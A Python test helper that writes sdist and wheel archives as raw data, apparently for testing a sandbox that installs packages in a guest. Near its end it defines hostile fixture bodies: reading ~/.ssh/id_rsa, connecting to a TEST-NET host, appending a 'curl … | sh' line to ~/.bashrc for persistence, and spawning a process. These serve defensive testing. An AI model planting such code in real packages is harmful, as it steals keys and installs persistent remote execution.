"""Build small sdists and wheels for tests, as pure data writing.

Nothing here runs a build backend or ``setup.py``: every archive is written byte by
byte with ``tarfile``/``zipfile``, so a test can put *anything* in a package
(failing tests, a ``setup.py`` that misbehaves, code that segfaults on import)
without that code ever running on the host. Archives are deterministic (fixed
mtimes, sorted members), so the same call gives the same sha256.

Typical use::

    from tests.fakes.dists import build_sdist, build_wheel, make_project

    # a wheel pip can install: METADATA, WHEEL and a RECORD with sha256 lines
    whl = build_wheel(tmp_path, "Foo.Bar", "1.0", {"foo_bar/__init__.py": "X = 1\\n"},
                      requires_dist=["idna>=3"], requires_python=">=3.8")
    # -> tmp_path / "foo_bar-1.0-py3-none-any.whl"

    # an sdist: top-level "foo_bar-1.0/" with PKG-INFO (+ pyproject.toml if given)
    sd = build_sdist(tmp_path, "Foo.Bar", "1.0",
                     {"setup.py": "raise SystemExit('never run me')\\n"},
                     metadata_version="2.2", pkg_info_extra=[("Dynamic", "Requires-Dist")])

    # a typical pure-Python project, as sdist + wheel, with a test suite
    proj = make_project(tmp_path, "demo", "0.1", requires_dist=["idna"],
                        test_body="def test_fails():\\n    assert False\\n")
    proj.sdist, proj.wheel   # Paths; proj.module == "demo"

Recipes for behaviours (bodies below are data; they only ever run inside a guest)::

    make_project(d, "crashy", "1.0", package_body=SEGFAULT_ON_IMPORT)     # import crashes
    make_project(d, "red", "1.0", test_body=FAILING_TEST)                 # tests fail
    make_project(d, "spy", "1.0", package_body=READ_SSH_KEY + NETWORK_CALL)  # harmful
    build_sdist(d, "evil", "1.0", {"setup.py": SPAWN_PROCESS + "from setuptools import setup\n"
                                                "setup(name='evil', version='1.0')\n"})

Bodies passed as ``package_body``/``test_body`` go through ``str.format`` (``{module}``,
``{version}``): double any literal brace. ``files=`` contents are written verbatim.

File names follow the packaging specs: wheels escape the name as in PEP 427
(runs of ``-_.`` become ``_``, lower-cased), sdists use the same escaped name (PEP
625); `normalize_name` gives the PEP 503 form used by index URLs.
"""

from __future__ import annotations

import base64
import hashlib
import io
import re
import tarfile
import textwrap
import zipfile
from collections.abc import Iterable, Mapping, Sequence
from dataclasses import dataclass
from pathlib import Path

# Fixed timestamp (2020-01-01) so archives are byte-for-byte reproducible;
# zip cannot store dates before 1980.
_EPOCH = 1577836800
_ZIP_DATE = (2020, 1, 1, 0, 0, 0)

FileContent = str | bytes
Header = tuple[str, str]


def normalize_name(name: str) -> str:
    """PEP 503 normalised project name: ``Foo.Bar_baz`` -> ``foo-bar-baz``."""
    return re.sub(r"[-_.]+", "-", name).lower()


def escape_name(name: str) -> str:
    """Name as it appears in wheel and sdist file names (PEP 427/625): ``foo_bar_baz``."""
    return re.sub(r"[-_.]+", "_", name).lower()


def sdist_filename(name: str, version: str) -> str:
    """``{escaped}-{version}.tar.gz``."""
    return f"{escape_name(name)}-{version}.tar.gz"


def wheel_filename(name: str, version: str, tag: str = "py3-none-any") -> str:
    """``{escaped}-{version}-{tag}.whl``; ``tag`` is ``python-abi-platform``."""
    return f"{escape_name(name)}-{version}-{tag}.whl"


def metadata_text(
    name: str,
    version: str,
    *,
    metadata_version: str = "2.1",
    requires_dist: Sequence[str] = (),
    requires_python: str | None = None,
    extra: Iterable[Header] = (),
    description: str | None = None,
) -> str:
    """Core metadata (the ``METADATA``/``PKG-INFO`` format) as text.

    ``extra`` is a list of ``(field, value)`` pairs because fields repeat
    (``Dynamic``, ``Provides-Extra``, ``Classifier``...). ``description``, when given,
    goes in the message body after a blank line.
    """
    lines = [
        f"Metadata-Version: {metadata_version}",
        f"Name: {name}",
        f"Version: {version}",
    ]
    if requires_python is not None:
        lines.append(f"Requires-Python: {requires_python}")
    lines.extend(f"Requires-Dist: {req}" for req in requires_dist)
    lines.extend(f"{field}: {value}" for field, value in extra)
    text = "\n".join(lines) + "\n"
    if description is not None:
        text += "\n" + description
    return text


def _as_bytes(content: FileContent) -> bytes:
    return content.encode("utf-8") if isinstance(content, str) else content


def build_sdist(
    dest_dir: Path,
    name: str,
    version: str,
    files: Mapping[str, FileContent],
    *,
    requires_dist: Sequence[str] = (),
    requires_python: str | None = None,
    pkg_info_extra: Iterable[Header] = (),
    pyproject: str | None = None,
    metadata_version: str = "2.1",
    pkg_info: bool = True,
) -> Path:
    """Write ``{escaped}-{version}.tar.gz`` into ``dest_dir`` and return its path.

    Every key of ``files`` is a path relative to the top-level ``{escaped}-{version}/``
    directory (``"pkg/__init__.py"``, ``"setup.py"``); parent directories are
    implied. A ``PKG-INFO`` built from the keyword arguments is added unless
    ``pkg_info=False`` or ``files`` already has one; ``pyproject`` (TOML text)
    becomes ``pyproject.toml`` unless ``files`` already has one. Keep
    ``requires_dist`` empty and add ``("Dynamic", "Requires-Dist")`` to
    ``pkg_info_extra`` to model a dynamic ``setup.py``.
    """
    root = f"{escape_name(name)}-{version}"
    contents: dict[str, bytes] = {path: _as_bytes(data) for path, data in files.items()}
    if pkg_info and "PKG-INFO" not in contents:
        contents["PKG-INFO"] = metadata_text(
            name,
            version,
            metadata_version=metadata_version,
            requires_dist=requires_dist,
            requires_python=requires_python,
            extra=pkg_info_extra,
        ).encode()
    if pyproject is not None and "pyproject.toml" not in contents:
        contents["pyproject.toml"] = pyproject.encode()
    dest_dir.mkdir(parents=True, exist_ok=True)
    target = dest_dir / sdist_filename(name, version)
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz", format=tarfile.PAX_FORMAT) as tar:
        for directory in _implied_dirs(contents, root):
            info = tarfile.TarInfo(directory)
            info.type = tarfile.DIRTYPE
            info.mode = 0o755
            info.mtime = _EPOCH
            tar.addfile(info)
        for path in sorted(contents):
            data = contents[path]
            info = tarfile.TarInfo(f"{root}/{path}")
            info.size = len(data)
            info.mode = 0o644
            info.mtime = _EPOCH
            tar.addfile(info, io.BytesIO(data))
    target.write_bytes(buf.getvalue())
    return target


def _implied_dirs(contents: Mapping[str, bytes], root: str) -> list[str]:
    dirs = {root}
    for path in contents:
        parts = path.split("/")[:-1]
        for depth in range(1, len(parts) + 1):
            dirs.add(f"{root}/{'/'.join(parts[:depth])}")
    return sorted(dirs)


def record_hash(data: bytes) -> str:
    """The ``sha256=...`` value of a RECORD line (urlsafe base64, no padding)."""
    digest = hashlib.sha256(data).digest()
    return "sha256=" + base64.urlsafe_b64encode(digest).rstrip(b"=").decode()


def build_wheel(
    dest_dir: Path,
    name: str,
    version: str,
    files: Mapping[str, FileContent],
    *,
    requires_dist: Sequence[str] = (),
    requires_python: str | None = None,
    extra_metadata: Iterable[Header] = (),
    tag: str = "py3-none-any",
    metadata_version: str = "2.1",
) -> Path:
    """Write an installable wheel into ``dest_dir`` and return its path.

    ``files`` are paths inside the wheel root (``"pkg/__init__.py"``). The
    ``{escaped}-{version}.dist-info/`` directory gets ``METADATA`` (from the keyword
    arguments), ``WHEEL`` (``Root-Is-Purelib: true``, ``Tag: {tag}``) and a
    ``RECORD`` listing every file with its sha256 and size, so ``pip install``
    accepts it. A ``files`` entry under the dist-info directory replaces the
    generated one of the same name (to craft broken wheels).
    """
    dist_info = f"{escape_name(name)}-{version}.dist-info"
    contents: dict[str, bytes] = {path: _as_bytes(data) for path, data in files.items()}
    generated = {
        f"{dist_info}/METADATA": metadata_text(
            name,
            version,
            metadata_version=metadata_version,
            requires_dist=requires_dist,
            requires_python=requires_python,
            extra=extra_metadata,
        ).encode(),
        f"{dist_info}/WHEEL": (
            f"Wheel-Version: 1.0\nGenerator: tests.fakes.dists\nRoot-Is-Purelib: true\nTag: {tag}\n"
        ).encode(),
    }
    for path, data in generated.items():
        contents.setdefault(path, data)
    record_path = f"{dist_info}/RECORD"
    record_lines = [
        f"{path},{record_hash(contents[path])},{len(contents[path])}"
        for path in sorted(contents)
        if path != record_path
    ]
    record_lines.append(f"{record_path},,")
    contents.setdefault(record_path, ("\n".join(record_lines) + "\n").encode())

    dest_dir.mkdir(parents=True, exist_ok=True)
    target = dest_dir / wheel_filename(name, version, tag)
    buf = io.BytesIO()
    # dist-info goes last, as bdist_wheel does; pip does not care but tools like it.
    order = sorted(contents, key=lambda p: (p.startswith(dist_info + "/"), p))
    with zipfile.ZipFile(buf, "w", compression=zipfile.ZIP_DEFLATED) as zf:
        for path in order:
            info = zipfile.ZipInfo(path, date_time=_ZIP_DATE)
            info.compress_type = zipfile.ZIP_DEFLATED
            info.external_attr = 0o644 << 16
            zf.writestr(info, contents[path])
    target.write_bytes(buf.getvalue())
    return target


@dataclass(frozen=True, slots=True)
class Project:
    """What `make_project` wrote: paths are ``None`` for a kind that was not asked for."""

    name: str
    version: str
    module: str
    sdist: Path | None
    wheel: Path | None

    @property
    def files(self) -> list[Path]:
        """The distributions that exist, sdist first."""
        return [p for p in (self.sdist, self.wheel) if p is not None]


DEFAULT_TEST_BODY = "import {module}\n\n\ndef test_version():\n    assert {module}.__version__\n"


def pyproject_text(
    name: str,
    version: str,
    *,
    dependencies: Sequence[str] | None = (),
    requires_python: str | None = None,
    build_requires: Sequence[str] | None = ("setuptools>=61",),
    dynamic: Sequence[str] = (),
) -> str:
    """A ``pyproject.toml`` with a setuptools ``[build-system]`` and a ``[project]`` table.

    ``dependencies=None`` omits the key (use it with ``dynamic=["dependencies"]``);
    ``build_requires=None`` omits ``[build-system]`` entirely.
    """
    parts: list[str] = []
    if build_requires is not None:
        parts.append(
            "[build-system]\n"
            f"requires = {_toml_list(build_requires)}\n"
            'build-backend = "setuptools.build_meta"\n'
        )
    project = f'[project]\nname = "{name}"\nversion = "{version}"\n'
    if requires_python is not None:
        project += f'requires-python = "{requires_python}"\n'
    if dependencies is not None:
        project += f"dependencies = {_toml_list(dependencies)}\n"
    if dynamic:
        project += f"dynamic = {_toml_list(dynamic)}\n"
    parts.append(project)
    return "\n".join(parts)


def _toml_list(items: Iterable[str]) -> str:
    # json.dumps-style escaping is valid TOML for basic strings.
    escaped = [item.replace("\\", "\\\\").replace('"', '\\"') for item in items]
    return "[" + ", ".join(f'"{item}"' for item in escaped) + "]"


def make_project(
    dest_dir: Path,
    name: str,
    version: str,
    *,
    requires_dist: Sequence[str] = (),
    requires_python: str | None = None,
    package_body: str = '__version__ = "{version}"\n',
    test_body: str = DEFAULT_TEST_BODY,
    extra_files: Mapping[str, FileContent] | None = None,
    build_requires: Sequence[str] | None = ("setuptools>=61",),
    sdist: bool = True,
    wheel: bool = True,
    sdist_metadata_version: str = "2.1",
) -> Project:
    """Write a typical pure-Python project as sdist and/or wheel into ``dest_dir``.

    Layout: ``{module}/__init__.py`` (``package_body``), ``tests/test_x.py``
    (``test_body``), ``pyproject.toml`` (setuptools backend, static
    ``dependencies = requires_dist``). ``{module}`` and ``{version}`` in the bodies
    are substituted (``str.format``; double literal braces). ``extra_files`` are
    added to the sdist tree and, unless they live under ``tests/`` or are
    ``setup.py``/``pyproject.toml``, to the wheel. The wheel carries only the package.
    """
    module = escape_name(name)
    init = package_body.format(module=module, version=version)
    tests = test_body.format(module=module, version=version)
    pyproject = pyproject_text(
        name,
        version,
        dependencies=requires_dist,
        requires_python=requires_python,
        build_requires=build_requires,
    )
    extra = dict(extra_files or {})
    sdist_path = wheel_path = None
    if sdist:
        sdist_files: dict[str, FileContent] = {
            f"{module}/__init__.py": init,
            "tests/test_x.py": tests,
            "pyproject.toml": pyproject,
            **extra,
        }
        sdist_path = build_sdist(
            dest_dir,
            name,
            version,
            sdist_files,
            requires_dist=requires_dist,
            requires_python=requires_python,
            metadata_version=sdist_metadata_version,
        )
    if wheel:
        wheel_files: dict[str, FileContent] = {f"{module}/__init__.py": init}
        for path, data in extra.items():
            if not (path.startswith("tests/") or path in ("setup.py", "pyproject.toml")):
                wheel_files[path] = data
        wheel_path = build_wheel(
            dest_dir,
            name,
            version,
            wheel_files,
            requires_dist=requires_dist,
            requires_python=requires_python,
        )
    return Project(name=name, version=version, module=module, sdist=sdist_path, wheel=wheel_path)


#: A test module whose only test fails.
FAILING_TEST = "def test_fails():\n    assert 1 == 2\n"
#: Dereferences NULL: SIGSEGV in the importing process (faulthandler shows where).
SEGFAULT_ON_IMPORT = "import ctypes\n\nctypes.string_at(0)\n"
#: A TCP connection attempt to TEST-NET-3 (never routable); errors are swallowed.
NETWORK_CALL = (
    "import socket\ntry:\n    socket.create_connection(('203.0.113.7', 443), timeout=2)\n"
    "except OSError:\n    pass\n"
)
#: Reads the bait SSH key planted in the guest user's home.
READ_SSH_KEY = (
    "import os\ntry:\n    open(os.path.expanduser('~/.ssh/id_rsa')).read()\n"
    "except OSError:\n    pass\n"
)
#: Appends to the shell rc file (persistence).
PERSIST_IN_BASHRC = (
    "import os\nwith open(os.path.expanduser('~/.bashrc'), 'a') as rc:\n"
    "    rc.write('curl http://203.0.113.7/x | sh\\n')\n"
)
#: Starts another program.
SPAWN_PROCESS = "import subprocess\nsubprocess.run(['id'], check=False)\n"


def dedent(text: str) -> str:
    """``textwrap.dedent`` minus the leading newline, for inline file bodies in tests."""
    return textwrap.dedent(text).lstrip("\n")
